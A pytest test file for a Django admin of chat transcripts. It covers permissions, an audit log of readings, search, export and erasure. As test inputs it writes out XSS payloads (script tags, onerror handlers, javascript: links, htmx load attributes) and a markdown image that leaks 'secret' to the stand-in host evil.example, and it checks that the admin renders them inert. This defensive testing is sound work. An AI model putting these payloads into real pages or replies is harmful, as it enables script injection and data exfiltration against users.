"""Authorised users can find, read and export transcripts, and each reading is recorded."""

from __future__ import annotations

from collections.abc import Callable
from uuid import uuid4

import orjson
import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import AsyncClient, Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from pytest_django import DjangoAssertNumQueries

from chat.admin import transcripts
from chat.models import (
    ChatModel,
    Conversation,
    Generation,
    JournalEntry,
    Message,
    Role,
    Status,
    ToolCallState,
    ToolRun,
    TranscriptRead,
    User,
)
from chat.parts import Citation, SourcePart, TextPart, ToolCall, ToolResult, stored

LIST = "/admin/chat/conversation/"

MakeConversation = Callable[..., Conversation]


@pytest.fixture
def admin(client: Client, administrator: User) -> Client:
    client.force_login(administrator)
    return client


@pytest.fixture
def reviewer(make_user: Callable[..., User]) -> User:
    """Staff who may read conversations, without other rights."""
    user = make_user("reviewer@example.org", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_conversation"))
    return user


def _page(conversation: Conversation) -> str:
    return reverse("admin:chat_conversation_change", args=[conversation.pk])


def _titles(client: Client, query: str) -> set[str]:
    return {str(conversation) for conversation in client.get(LIST + query).context["cl"].result_list}


def test_a_person_and_a_stranger_see_no_transcript(
    client: Client, person: User, make_conversation: MakeConversation
) -> None:
    conversation = make_conversation(person)
    for url in (LIST, _page(conversation)):
        assert client.get(url).status_code == 302
    client.force_login(person)
    for url in (LIST, _page(conversation)):
        assert client.get(url).status_code in {302, 403}
    assert not TranscriptRead.objects.exists()


def test_staff_without_the_permission_see_no_transcript(
    client: Client, make_user: Callable[..., User], person: User, make_conversation: MakeConversation
) -> None:
    conversation = make_conversation(person)
    client.force_login(make_user("staff@example.org", is_staff=True))
    assert client.get(LIST).status_code == 403
    assert client.get(_page(conversation)).status_code == 403
    assert client.post(LIST, {"action": "export", "_selected_action": [conversation.pk]}).status_code == 403
    assert not TranscriptRead.objects.exists()


def test_reading_shows_the_thread_and_is_recorded(
    client: Client, reviewer: User, person: User, make_conversation: MakeConversation
) -> None:
    conversation = make_conversation(person, prompt="What is *that*?", reply="**Bold**")
    client.force_login(reviewer)
    page = client.get(_page(conversation)).content.decode()
    assert "What is *that*?" in page, "a prompt is shown as it was typed"
    assert "<strong>Bold</strong>" in page
    for fact in (
        "queued 0.25 s",
        "first token after 0.50 s",
        "2.50 s in total",
        "7 tokens in, 100 out",
        "50.0 tokens/s",
    ):
        assert fact in page
    assert "hmm" in page
    read = TranscriptRead.objects.get()
    assert (read.reader, read.owner, read.conversation_id) == (reviewer, person, conversation.pk)
    assert read.how == TranscriptRead.How.READ


def test_the_record_outlives_people_and_conversation(
    admin: Client, person: User, make_conversation: MakeConversation
) -> None:
    conversation = make_conversation(person)
    admin.get(_page(conversation))
    person.delete()
    read = TranscriptRead.objects.get()
    assert (read.owner, read.owner_email) == (None, "person@example.org")
    assert "person@example.org" in admin.get("/admin/chat/transcriptread/").content.decode()


def test_nobody_changes_the_record(admin: Client, person: User, make_conversation: MakeConversation) -> None:
    admin.get(_page(make_conversation(person)))
    read = TranscriptRead.objects.get()
    assert admin.post(f"/admin/chat/transcriptread/{read.pk}/delete/", {"post": "yes"}).status_code == 403
    assert admin.post(f"/admin/chat/transcriptread/{read.pk}/change/", {}).status_code == 403
    assert admin.get("/admin/chat/transcriptread/add/").status_code == 403


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "![x](https://evil.example/?q=secret)",
        '<div hx-get="/x" hx-trigger="load">',
    ],
)
def test_nothing_written_becomes_live_markup(
    admin: Client, person: User, make_conversation: MakeConversation, text: str
) -> None:
    conversation = make_conversation(person, title=text, prompt=text, reply=text)
    for url in (LIST, _page(conversation)):
        page = admin.get(url).content.decode()
        assert "<script>alert" not in page
        assert "<img src=x" not in page
        assert 'href="javascript:' not in page
        assert 'src="https://evil.example' not in page
        assert "<div hx-get" not in page


def test_a_running_reply_shows_what_the_journal_has(
    admin: Client, person: User, make_conversation: MakeConversation
) -> None:
    conversation = make_conversation(person, reply="", status=Status.RUNNING)
    generation = Generation.objects.get()
    JournalEntry.objects.create(
        generation=generation, start=0, segments=[["reasoning", "no"], ["text", "So "]]
    )
    JournalEntry.objects.create(generation=generation, start=5, segments=[["text", "far"]])
    assert "<p>So far</p>" in admin.get(_page(conversation)).content.decode()


def test_calls_of_tools_are_shown_without_a_decision(
    admin: Client, person: User, make_conversation: MakeConversation
) -> None:
    conversation = make_conversation(person)
    message = conversation.messages.get(role=Role.ASSISTANT)
    hostile = "![x](https://evil.example.org/x) <img src=//evil.example.org>"
    message.parts = stored(
        [
            TextPart("Before."),
            ToolCall("a", "our__double", '{"number": "21"}'),
            ToolResult("a", hostile, seconds=1.5),
            ToolCall("b", "calculator", '{"expression": "1"}'),
            TextPart("After."),
        ]
    )
    message.save()
    reply = message.generation
    Generation.objects.filter(pk=reply.pk).update(status=Status.WAITING, finished_at=None)
    ToolRun.objects.create(
        generation=reply, step=2, number=1, call_id="b", name="calculator", state=ToolCallState.ASKED
    )
    shown = admin.get(_page(conversation)).content.decode()
    order = [
        shown.index(words) for words in ("Before.", "our: double", "&quot;21&quot;", "Calculator", "After.")
    ]
    assert order == sorted(order)
    assert "Needs your approval" in shown and "Approve for this chat" not in shown
    assert "![x](https://evil" in shown and "<img src=//evil" not in shown
    assert 'href="https://evil' not in shown


def test_sources_and_cited_pages_are_shown_as_text_and_inert_links(
    admin: Client, person: User, make_conversation: MakeConversation
) -> None:
    conversation = make_conversation(person)
    message = conversation.messages.get(role=Role.ASSISTANT)
    message.parts = stored(
        [
            TextPart("It is so."),
            Citation("https://news.example/a", "<script>alert(1)</script>", 9),
            Citation("javascript:alert(1)", "Harmless", 9),
            SourcePart("contract.pdf", "<img src=//evil.example.org> four months", 3),
        ]
    )
    message.save()
    shown = admin.get(_page(conversation)).content.decode()
    assert "contract.pdf" in shown and "&lt;img src=//evil.example.org&gt; four months" in shown
    assert 'href="https://news.example/a" target="_blank" rel="noopener noreferrer nofollow"' in shown
    assert "<script>alert(1)" not in shown and "javascript:alert" not in shown


def test_search_finds_titles_texts_and_people_once(
    admin: Client, person: User, make_user: Callable[..., User], make_conversation: MakeConversation
) -> None:
    make_conversation(person, title="Apples", prompt="pear pear", reply="pear plum")
    make_conversation(make_user("ada@example.org"), title="Cherries", prompt="plum")
    assert _titles(admin, "?q=apples") == {"Apples"}
    assert [str(found) for found in admin.get(LIST + "?q=pear").context["cl"].result_list] == ["Apples"]
    assert _titles(admin, "?q=plum") == {"Apples", "Cherries"}
    assert _titles(admin, "?q=plum+ada@") == {"Cherries"}
    assert _titles(admin, "?q=100%25") == set()
    assert _titles(admin, "?q=%22pear+plum%22") == {"Apples"}
    assert _titles(admin, "?q=%22plum+pear%22") == set()
    assert "still being built" not in admin.get(LIST + "?q=pear").content.decode()
    Message.objects.update(is_indexed=None)
    assert "still being built" in admin.get(LIST + "?q=pear").content.decode()


def test_a_search_is_recorded_with_its_words_and_a_view_of_the_list_as_titles_seen(
    client: Client, reviewer: User, person: User, make_conversation: MakeConversation
) -> None:
    make_conversation(person, prompt="my secret")
    client.force_login(reviewer)
    client.get(LIST)
    seen = TranscriptRead.objects.get()
    assert (seen.reader, seen.how, seen.words) == (reviewer, "titles", "")
    client.get(LIST, {"q": "secret"})
    client.get(LIST, {"q": "nothing like it"})
    nothing, secret = TranscriptRead.objects.filter(how="searched").order_by("-number")
    assert (secret.reader, secret.words, secret.found) == (reviewer, "secret", 1)
    assert (nothing.found, nothing.words) == (0, "nothing like it")
    assert (secret.conversation_id, secret.owner) == (None, None)
    assert TranscriptRead.objects.count() == 3


def test_the_record_leads_to_the_conversation(
    admin: Client, person: User, make_conversation: MakeConversation
) -> None:
    conversation = make_conversation(person)
    admin.get(_page(conversation))
    admin.get(LIST, {"q": "pears"})
    record = admin.get("/admin/chat/transcriptread/").content.decode()
    assert f'<a href="{_page(conversation)}">{conversation.pk}</a>' in record
    assert "pears" in record


def test_filters_narrow_the_list(
    admin: Client, person: User, administrator: User, model: ChatModel, make_conversation: MakeConversation
) -> None:
    make_conversation(person, title="Good")
    bad = make_conversation(administrator, title="Bad", status=Status.FAILED)
    other = ChatModel.objects.create(endpoint=model.endpoint, name="other")
    Generation.objects.filter(conversation=bad).update(model=other)
    assert _titles(admin, "?state=failed") == {"Bad"}
    assert _titles(admin, f"?model={model.pk}") == {"Good"}
    assert _titles(admin, f"?owner__id__exact={person.pk}") == {"Good"}
    assert _titles(admin, "?deleted_at__isempty=1") == {"Good", "Bad"}
    assert admin.get(LIST + "?model=x").status_code == 200


def test_the_number_of_queries_does_not_grow_with_the_list(
    admin: Client,
    person: User,
    make_conversation: MakeConversation,
    django_assert_max_num_queries: DjangoAssertNumQueries,
) -> None:
    for _ in range(40):
        make_conversation(person)
    with django_assert_max_num_queries(14):
        assert len(admin.get(LIST + "?q=hello").context["cl"].result_list) == 40


def test_the_number_of_queries_does_not_grow_with_the_thread(
    admin: Client,
    person: User,
    make_conversation: MakeConversation,
    django_assert_max_num_queries: DjangoAssertNumQueries,
) -> None:
    conversation = make_conversation(person)
    Message.objects.bulk_create(
        Message(
            conversation=conversation, position=position, role="user", text="x", revision=1, added_revision=1
        )
        for position in range(3, 253)
    )
    with django_assert_max_num_queries(14):
        page = admin.get(_page(conversation)).content.decode()
    assert page.count("<article") == 200
    assert "?page=2" in page


def test_a_late_page_of_a_transcript_reads_what_it_shows_and_not_what_is_before_it(
    admin: Client, person: User, make_conversation: MakeConversation, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a cold disk each message that is only counted costs a read, and each with a reply two."""
    monkeypatch.setattr(transcripts, "MESSAGES_PER_PAGE", 1)
    conversation = make_conversation(person, prompt="first words", reply="last words")
    with CaptureQueriesContext(connection) as queries:
        page = admin.get(f"{_page(conversation)}?page=2").content.decode()
    assert "last words" in page
    assert "first words" not in page
    skipping = [query["sql"] for query in queries if "OFFSET" in query["sql"]]
    assert len(skipping) == 1
    assert "JOIN" not in skipping[0]
    assert '"text"' not in skipping[0]


def test_a_missing_conversation_is_no_error(admin: Client) -> None:
    assert admin.get(f"{LIST}{uuid4()}/change/").status_code == 302
    assert admin.get(f"{LIST}nonsense/change/").status_code == 302


def test_messages_can_be_neither_added_nor_changed(
    admin: Client, person: User, make_conversation: MakeConversation
) -> None:
    conversation = make_conversation(person)
    assert admin.get(f"{LIST}add/").status_code == 403
    admin.post(_page(conversation), {"title": "Mine"})
    conversation.refresh_from_db()
    assert conversation.title == ""


def test_erasing_needs_the_permission_and_leaves_an_empty_row(
    client: Client,
    reviewer: User,
    administrator: User,
    person: User,
    make_conversation: MakeConversation,
    django_capture_on_commit_callbacks: Callable[..., object],
) -> None:
    conversation = make_conversation(person, title="Secret", status=Status.RUNNING)
    url = reverse("admin:chat_conversation_delete", args=[conversation.pk])
    client.force_login(reviewer)
    assert client.post(url, {"post": "yes"}).status_code == 403
    assert Message.objects.count() == 2
    client.force_login(administrator)
    assert "Messages: 2" in " ".join(client.get(url).content.decode().split())
    client.post(url, {"post": "yes"})
    conversation.refresh_from_db()
    assert (conversation.title, conversation.head, conversation.revision) == ("", None, 1)
    assert conversation.deleted_at is not None
    assert not Message.objects.exists()
    assert not Generation.objects.exists()
    assert _titles(client, "") == set()


@pytest.mark.django_db(transaction=True)
async def test_an_export_has_one_conversation_a_line_and_is_recorded(
    async_client: AsyncClient, administrator: User, person: User, make_conversation: MakeConversation
) -> None:
    from asgiref.sync import sync_to_async

    made = [await sync_to_async(make_conversation)(person, title=f"Chat\n{n}") for n in range(45)]
    await async_client.aforce_login(administrator)
    ids = [str(conversation.pk) for conversation in made]
    answer = await async_client.post(LIST, {"action": "export", "_selected_action": ids})
    assert answer["Content-Disposition"].endswith('.jsonl"')
    lines = b"".join([chunk async for chunk in answer.streaming_content]).splitlines()
    exported = {line["id"]: line for line in map(orjson.loads, lines)}
    assert exported.keys() == set(ids)
    first = exported[ids[0]]
    assert (first["title"], first["owner"]) == ("Chat\n0", "person@example.org")
    prompt, reply = first["messages"]
    assert (prompt["role"], prompt["text"], prompt["generation"]) == ("user", "Hello", None)
    assert (reply["parent"], reply["generation"]["output_tokens"]) == (prompt["id"], 100)
    assert [part["type"] for part in reply["parts"]] == ["reasoning"]
    assert await TranscriptRead.objects.filter(how="exported", reader=administrator).acount() == 45
